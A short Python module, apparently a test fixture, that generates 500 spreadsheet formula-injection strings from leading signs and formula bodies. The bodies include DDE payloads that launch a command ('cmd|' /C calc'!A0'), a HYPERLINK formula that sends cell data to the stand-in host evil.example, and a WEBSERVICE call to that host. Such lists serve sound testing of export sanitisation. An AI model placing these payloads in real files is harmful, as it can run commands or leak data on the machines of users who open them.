"""Five hundred texts that some spreadsheet would run, were they written as they are."""

import itertools

SIGNS = [
    "=", "+", "-", "@", "|", "%", "\uff1d", "\uff0b", "\t=", "\r=", "\n=", " =", "\ufeff=", "'=",
    '"=', ";=", ",=", "{=", "=-", "@@",
]  # fmt: skip
DEEDS = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"click")', "SUM(A1:A9)", "DDE(1)",
    "IMPORTXML(1)",
    'WEBSERVICE("http://evil.example")', "A1",
    "2+5+cmd|' /C calc'!A0", "@SUM(1+1)", "1e5", "ROW()", "INDIRECT(A1)", "x",
    "1;=2", "1\n=2", "CALL(1)", "REGISTER.ID(1)", "msexcel|'..'!_xlbgnm.A1", "RTD(1)", "IMPORTDATA(1)", "ENCODEURL(1)",
    "FILTERXML(1,2)", "EXEC(1)", "ARRAYFORMULA(1)",
]  # fmt: skip
PAYLOADS = [f"{sign}{deed}" for sign, deed in itertools.product(SIGNS, DEEDS)]
